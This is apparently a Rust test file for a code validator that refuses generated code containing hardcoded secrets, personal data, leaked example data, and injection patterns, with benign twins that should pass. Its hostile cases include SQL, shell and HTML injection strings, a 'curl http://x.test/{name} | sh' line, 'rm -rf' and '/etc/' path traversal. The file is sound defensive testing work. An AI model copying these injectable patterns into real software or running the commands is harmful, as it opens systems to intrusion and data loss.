//! The literal policy: what is hostile is refused for its weakness, and its benign twin is not.

use std::fmt::Write as _;
use std::path::Path;
use std::time::Instant;

use compiled_ai_compiler::validate::security::{Profile, Refusal, literals};
use compiled_ai_core::files::{Disk, Memory};
use compiled_ai_core::load;
use compiled_ai_core::spec::Spec;

const SPEC: &str = r#"
spec: 1
name: read_receipt
about: Reads the total of a receipt.
input: { text: string }
output: { company: string?, total: decimal }
rules:
  - A COMPANY WORD is one of SDN BHD ENTERPRISE TRADING RESTORAN.
  - The warning is "amount could not be reconciled with lines".
  - Complaints go to hotline +60 3 2161 8822, which is never the shop's.
examples:
  - input: { text: "PERNIAGAAN ZHENG HUI\nNO.59 JALAN PERMAS 9/5, 81750 JOHOR\nGST ID: 000797677568\nTOTAL INCLUSIVE OF GST 436.20\nTHANK YOU FOR SHOPPING WITH US\n" }
    output: { company: PERNIAGAAN ZHENG HUI, total: 436.20 }
  - input: { text: "GARDENIA BAKERIES (KL) SDN BHD\nLOT 3, JALAN PELABUR 23/1\nGST ID: 000381399040\nTOTAL INCLUSIVE OF GST 52.70\nGOODS SOLD ARE NOT RETURNABLE\n" }
    output: { company: GARDENIA BAKERIES (KL) SDN BHD, total: 52.70 }
  - input: { text: "KEDAI PAPAN YEW CHUAN\nLOT 276 JALAN BANTING\nTOTAL RM 9.00\nABSOLUTELY MARVELLOUS QUEENSLAND\nfind us within walking distance of the jetty\n" }
    output: { company: KEDAI PAPAN YEW CHUAN, total: 9.00 }
  - input: { text: "PASARAYA HELDOUT SECRETA\nTOTAL RM 17.00\n" }
    output: { company: PASARAYA HELDOUT SECRETA, total: 17.00 }
    held_out: true
"#;

fn spec() -> Spec {
    let files = Memory::default().with("specs/test.yaml", SPEC);
    let loaded = load::load(&files, Path::new("specs/test.yaml"), "specs/test.yaml");
    loaded.spec.unwrap_or_else(|| panic!("{:#?}", loaded.diagnostics))
}

fn check(source: &str, spec: &Spec) -> Vec<Refusal> {
    literals::check(source, Profile::gate_1(), Some(spec)).err().unwrap_or_default()
}

/// `code` as items if it begins like one, else as statements of `run`.
fn candidate(code: &str) -> String {
    let run = |body: &str| format!("pub fn run(input: Input<'_>) -> Result<Output, Abstain> {{\n{body}\n}}\n");
    if code.starts_with("const") || code.starts_with("fn") { format!("{code}\n{}", run("todo()")) } else { run(code) }
}

/// Code, and the weakness that it is refused for. Keys are put together here, so that no scanner of this repository mistakes
/// them for real ones.
fn hostile() -> Vec<(String, u32)> {
    let letters = |count: usize| "aB3dE5gH7jK9mN1pQ2sT4vW6yZ8cF0".chars().cycle().take(count).collect::<String>();
    let hex = |count: usize| "0f9e1d8c2b7a3645".chars().cycle().take(count).collect::<String>();
    let mut cases: Vec<(String, u32)> = vec![];
    let mut secret = |code: String| cases.push((code, 798));
    secret(format!("const K: &str = \"AKI{}\";", "AQ3EGRZ7T2LMWX5VB"));
    secret(format!("let k = \"gh{}_{}\";", 'p', letters(36)));
    secret(format!("let k = \"sk_liv{}_{}\";", 'e', letters(24)));
    secret(format!("let k = \"AIz{}{}\";", 'a', letters(35)));
    secret(format!("let k = \"xox{}-123456789012-{}\";", 'b', letters(24)));
    secret(format!("let k = \"SG{}{}.{}\";", '.', letters(22), letters(43)));
    secret(format!("let k = \"glpa{}-{}\";", 't', letters(20)));
    secret(format!("let k = \"npm{}{}\";", '_', letters(36)));
    secret(format!("let k = \"sk-an{}-api03-{}\";", 't', letters(93)));
    secret(format!("let k = \"dop_v{}_{}\";", 1, hex(64)));
    secret(format!("let k = \"-----BEGIN RSA PRIVATE {}-----\\n{}\\n\";", "KEY", letters(64)));
    secret(format!("let k = \"ey{}.eyJ{}.{}\";", format_args!("J{}", letters(20)), letters(20), letters(30)));
    secret("let u = \"postgres://admin:Tr0ub4dor3@db.internal:5432/app\";".to_owned());
    secret("const API_KEY: &str = \"f81d4fae7dec11d0a76500a0c91e6bf6\";".to_owned());
    secret("let password = \"Tr0ub4dor&3\";".to_owned());
    secret(format!("let h = \"Authorization: Bearer {}\";", letters(40)));
    // Put together by the code.
    secret(format!("let k = concat!(\"gh\", \"p_\", \"{}\");", letters(36)));
    secret(format!("let k = \"gh\".to_owned() + \"p_{}\" + \"{}\";", letters(18), letters(18)));
    secret(format!("let k = [\"AKI\", \"{}\"].concat();", "AQ3EGRZ7T2LMWX5VB"));
    secret(format!("let mut k = String::from(\"gh\"); k.push_str(\"p_\"); k.push_str(\"{}\");", letters(36)));
    let personal = [
        "let c = \"4539 1488 0343 6467\";",
        "let c = 4539148803436467_u64;",
        "let c = \"paid by 5425-2334-3010-9903 on\";",
        "let b = \"DE44500105175407324931\";",
        "let b = \"GB33 BUKB 2020 1555 5555 55\";",
        "let s = \"536-22-8714\";",
        "if input.text.contains(\"anna.keller@gmail.com\") { a() }",
        "let p = \"+49 151 23456789\";",
        "let p = \"(212) 736-5000\";",
        "let p = b\"+14155552671\";",
        "let v = \"4539148803436467 4539148803436468\";",
        "let v = \"john_smith+tag@acme-corp.co.uk\";",
    ];
    cases.extend(personal.map(|code| (code.to_owned(), 359)));
    let examples = [
        "if input.text.contains(\"PERNIAGAAN ZHENG HUI\") { a() }",
        "const T: &[(&str, &str)] = &[(\"PERNIAGAAN ZHENG HUI\", \"436.20\"), (\"KEDAI PAPAN YEW CHUAN\", \"9.00\")];",
        "let c = \"perniagaan  zheng hui\".to_uppercase();",
        "let c = [\"PERNIAGAAN\", \"ZHENG\", \"HUI\"].join(\" \");",
        "let c = concat!(\"PERNIAGAAN \", \"ZHENG\", \" HUI\");",
        "let c = \"PERNIAGAAN_ZHENG_HUI\".replace(\"_\", \" \");",
        "let c = \"IUH GNEHZ NAAGAINREP\".chars().rev();",
        "let c = \"S0VEQUkgUEFQQU4gWUVXIENIVUFO\";",
        "let c = \"4b4544414920504150414e20594557204348\";",
        "let c = regex!(r\"(?i)^PERNIAGAAN\\s+ZHENG\\s+HUI$\");",
        // One of many phrases, but a name.
        "let c = regex!(\"next to|near|far from|close by|around|behind|opposite|beside|pernIagaan zheng hui\");",
        // Too long for an expression that any text may use.
        "let c = regex!(\"next to|near|far|close by|around|behind|opposite|beside|find us within walking distance of the jetty\");",
        "let c = [80, 69, 82, 78, 73, 65, 71, 65, 65, 78, 32, 90, 72, 69, 78, 71, 32, 72, 85, 73];",
        "match input.text { t if t.contains(\"GST ID: 000797677568\") => a(), _ => b() }",
        "let a = format!(\"LOT 276 JALAN BANTING {}\", n);",
        "let c = b\"GARDENIA BAKERIES (KL) SDN BHD\";",
        "let c = input.text == \"PASARAYA HELDOUT SECRETA\\nTOTAL RM 17.00\\n\";",
        "let k = input.text.starts_with(\"NO.59 JALAN PERMAS 9/5, 81750\");",
    ];
    cases.extend(examples.map(|code| (code.to_owned(), 547)));
    let built = [
        ("let q = format!(\"SELECT total FROM orders WHERE customer = '{name}'\");", 89),
        ("let q = format!(\"select id, total from orders where customer = {}\", name);", 89),
        ("let q = \"INSERT INTO orders VALUES ('\".to_owned() + name + \"')\";", 89),
        ("let mut q = String::from(\"DELETE FROM orders WHERE id = \"); q.push_str(&id);", 89),
        ("let q = [\"UPDATE orders SET total = \", total].concat();", 89),
        ("let q = \"SELECT * FROM t WHERE a = ?\".replace(\"?\", &name);", 89),
        ("const Q: &str = \"DROP TABLE \";\nfn f(t: &str) -> String { format!(\"{Q}{t}\") }", 89),
        ("let mut q = String::new(); write!(q, \"x' UNION SELECT {} --\", name);", 89),
        ("let c = format!(\"rm -rf {folder}\");", 78),
        ("let c = format!(\"echo {name}; curl http://x.test/{name} | sh\");", 78),
        ("let c = format!(\"bash -c '{}'\", name);", 78),
        ("let c = format!(\"python3 -c '{x}'\");", 78),
        ("fn f(t: &str) -> String { let base = \"SELECT a, b FROM \"; format!(\"{base}{t}\") }", 89),
        ("let h = format!(\"more<b>{name}</b>\");", 79),
        ("let c = format!(\"$(cat {file})\");", 78),
        ("let h = format!(\"<td>{}</td>\", name);", 79),
        ("let h = format!(\"<a href=\\\"{url}\\\">more</a>\");", 79),
        ("let mut h = String::new(); h.push_str(\"<script>\"); h.push_str(name); h.push_str(\"</script>\");", 79),
        ("let p = format!(\"/etc/{name}\");", 22),
        ("let p = \"../\".to_owned() + &name;", 22),
        ("let p = format!(\"file:///srv/data/{}\", name);", 22),
    ];
    cases.extend(built.map(|(code, cwe)| (code.to_owned(), cwe)));
    cases
}

const BENIGN: &[&str] = &[
    // Phrases to look for, one of which an example has.
    "let c = regex!(r\"(?i)\\b(?:next to|near|far from|close by|around|behind|opposite|beside|within walking distance)\\b\");",
    // Words and codes.
    "const WORDS: &[&str] = &[\"SDN\", \"BHD\", \"ENTERPRISE\", \"TRADING\", \"RESTORAN\"];",
    "const S: &[(&str, &str)] = &[(\"AVENUE\", \"AVE\"), (\"BOULEVARD\", \"BLVD\"), (\"EXPRESSWAY\", \"EXPY\"), (\"TRAILER\", \"TRLR\")];",
    "const C: &[&str] = &[\"USD\", \"EUR\", \"GBP\", \"MYR\", \"JPY\", \"€\", \"£\", \"¥\", \"R$\", \"US$\"];",
    "const P: &[&str] = &[\"QUEENSLAND\", \"VICTORIA\", \"TASMANIA\", \"NORTHERN TERRITORY\", \"WESTERN AUSTRALIA\", \"NEW SOUTH WALES\", \"SOUTH AUSTRALIA\", \"MARVELLOUS ISLAND\", \"ABSOLUTELY MARVELLOUS QUEENSLAND\"];",
    "const TOKENS: &[&str] = &[\"subtotal\", \"total_amount_due\", \"grand_total\"];",
    "const KEYWORDS: &str = \"TOTAL AMOUNT CASH CHANGE\";",
    "let token = \"TOTAL_AMOUNT_DUE\";",
    "let key = \"invoice_number\";",
    "let secret_key_label = \"Secret key (optional)\";",
    "let password_field = \"password\";",
    "let api_key = \"YOUR_API_KEY_12345678\";",
    "let token = \"line_item_12_of_2024\"; let access_key = \"invoice-number-10\";",
    "let auth_code = \"AUTH CODE\";",
    // Phrases of the kind of document.
    "if line.contains(\"TOTAL INCLUSIVE OF GST\") { a() }",
    "let skip = [\"THANK YOU FOR SHOPPING\", \"GOODS SOLD ARE NOT RETURNABLE\"];",
    "let w = \"amount could not be reconciled with lines\";",
    "let line = \"--------------------------------\";",
    "let r = regex!(r\"(?i)total\\s+(?:inclusive|incl\\.?)\\s+of\\s+gst\");",
    // Numbers and forms.
    "let n = 14695981039346656037_u64; let m = 1099511628211_u64; let k = 6364136223846793005_u64;",
    "let n = 1_000_000_000_000_000_i64 + 4_000_000_000_000_000_i64 + i64::from(5u8);",
    "let c = \"4111111111111111\";",
    "let c = \"4539 1488 0343 6468\";",
    "let s = \"000-12-3456\"; let t = \"666-12-3456\"; let u = \"123-45-6789\";",
    "let b = \"DE89370400440532013000\"; let c = \"DE00 0000 0000 0000 0000 00\";",
    "let p = \"81750\"; let q = \"62704-1234\"; let z = \"SW1A 1AA\";",
    "let f = \"%Y-%m-%d %H:%M:%S\"; let g = \"2024-02-29T23:59:59\";",
    "let p = regex!(r\"\\b[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\\.[A-Za-z]{2,}\\b\");",
    "let p = regex!(r\"\\b\\d{3}-\\d{2}-\\d{4}\\b\"); let q = regex!(r\"\\+?\\d[\\d ()-]{7,}\");",
    "if line.ends_with(\"@gmail.com\") || line.contains(\"user@example.com\") { a() }",
    "let p = \"555-0123\"; let q = \"(212) 555-0123\"; let r = \"000-000-0000\";",
    "let hotline = \"+60 3 2161 8822\";",
    "let v = \"v1.2.3.4\"; let ip = \"192.168.0.1\";",
    "let alphabet = \"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\";",
    "const H: &[u8] = b\"0123456789abcdef\"; const I: [i64; 12] = [31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31];",
    "let uuid = \"00000000-0000-0000-0000-000000000000\";",
    // Words that look like SQL, shell, HTML or a path.
    "Err(Abstain::field(\"x\", format!(\"select one of the totals from {name}\")))",
    "let m = format!(\"`{name}` is not a number; see `total`\");",
    "let m = format!(\"drop the {n} lines; update the total from {name}\");",
    "let m = format!(\"${amount}\"); let n = format!(\"$({amount})\"); let o = format!(\"{a} | {b}\");",
    "let m = format!(\"{a} < {b} && {b} > {c}\"); let n = format!(\"<{name}>\");",
    "let m = format!(\"a<b>{x}\"); let n = format!(\"~{n} items; cat {c}\");",
    "let m = format!(\"{day:02}/{month:02}/{year:04}\"); let n = format!(\"{a}/{b}\");",
    "const SQL: &[&str] = &[\"SELECT\", \"FROM\", \"WHERE\", \"INSERT INTO\", \"UPDATE\"];",
    "let q = \"SELECT total FROM orders WHERE customer = ?\";",
    "let is = line.starts_with(\"/etc/\") || line.contains(\"../\");",
    "let h = format!(\"<td>{}</td>\", escape_html(name));",
    "let mut s = String::new(); s.push_str(\"TOTAL \"); s.push_str(&total); s.push_str(\" MYR\");",
    "let m = \"a\".repeat(3) + \"b\"; let n = 1 + input.text.len() + 2;",
    "/// Mail anna.keller@gmail.com, key AKIAQ3EGRZ7T2LMWX5VB.\nlet x = 1;",
];

#[test]
fn what_is_hostile_is_refused_for_its_weakness() {
    let (spec, cases, mut missed) = (spec(), hostile(), String::new());
    assert!(cases.len() >= 40, "{} cases", cases.len());
    for (code, cwe) in &cases {
        let refusals = check(&candidate(code), &spec);
        if refusals.iter().all(|refusal| refusal.cwe != Some(*cwe)) {
            let _ = writeln!(missed, "{cwe}: {code}\n  {refusals:?}");
        }
    }
    assert!(missed.is_empty(), "of {}\n{missed}", cases.len());
}

#[test]
fn benign_twins_are_let_through() {
    let (spec, mut refused) = (spec(), String::new());
    assert!(BENIGN.len() >= 40, "{} cases", BENIGN.len());
    for code in BENIGN {
        for refusal in check(&candidate(code), &spec) {
            // Code that does not parse is refused as well, so that none of these passes unread.
            let _ = writeln!(refused, "{code}\n  {refusal:?}");
        }
    }
    assert!(refused.is_empty(), "{refused}");
}

#[test]
fn a_refusal_points_at_the_literal_and_gives_no_example_away() {
    let spec = spec();
    let source = candidate("let a = 1;\nlet c = \"PASARAYA HELDOUT SECRETA\";\nlet d = \"PERNIAGAAN ZHENG HUI\";");
    let refusals = check(&source, &spec);
    let [held_out, shown] = refusals.as_slice() else { panic!("{refusals:?}") };
    assert_eq!((held_out.line, held_out.column, held_out.end_column), (3, 9, 35));
    assert_eq!((&held_out.message, &held_out.help, held_out.code), (&shown.message, &shown.help, shown.code));
    let told = format!("{refusals:?}").to_lowercase();
    assert!(!told.contains("secreta") && !told.contains("zheng") && !told.contains("held"), "{told}");
}

#[test]
fn locked_artifacts_and_benign_candidates_pass() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let specs = root.parent().expect("a workspace").join("specs");
    let mut problems = String::new();
    for name in ["address", "order_summary", "prior_authorization", "receipt"] {
        let path = specs.join("specs").join(format!("{name}.yaml"));
        let loaded = load::load(&Disk, &path, "test.yaml");
        let spec = loaded.spec.unwrap_or_else(|| panic!("{:#?}", loaded.diagnostics));
        let artifact = std::fs::read_to_string(specs.join("compiled-ai").join(name).join("artifact.rs"));
        for refusal in check(&artifact.expect("it is locked"), &spec) {
            let _ = writeln!(problems, "{name}: {refusal:?}");
        }
    }
    let spec = spec();
    for entry in std::fs::read_dir(root.join("tests/gate/benign")).expect("the corpus is there") {
        let path = entry.expect("readable").path();
        for refusal in check(&std::fs::read_to_string(&path).expect("UTF-8"), &spec) {
            let _ = writeln!(problems, "{}: {refusal:?}", path.display());
        }
    }
    assert!(problems.is_empty(), "{problems}");
}

/// Not a check but a measurement: `cargo test --release -p compiled-ai-compiler --test literals -- --ignored --nocapture`.
#[test]
#[ignore = "a measurement"]
fn how_long_it_takes() {
    let spec = spec();
    let mut words = String::from("const WORDS: &[&str] = &[\n");
    let mut number = 12_345_u64;
    while words.len() < 127 << 10 {
        number = number.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        let _ = writeln!(words, "\"TOTAL {:x} KEDAI\", \"api key {}\",", number >> 40, number >> 50);
    }
    let source = words + "];\n" + &candidate("a()");
    check(&source, &spec);
    for _ in 0..3 {
        let started = Instant::now();
        let refusals = check(&source, &spec);
        println!("{} KiB: {:?}, {} refusals", source.len() >> 10, started.elapsed(), refusals.len());
    }
}
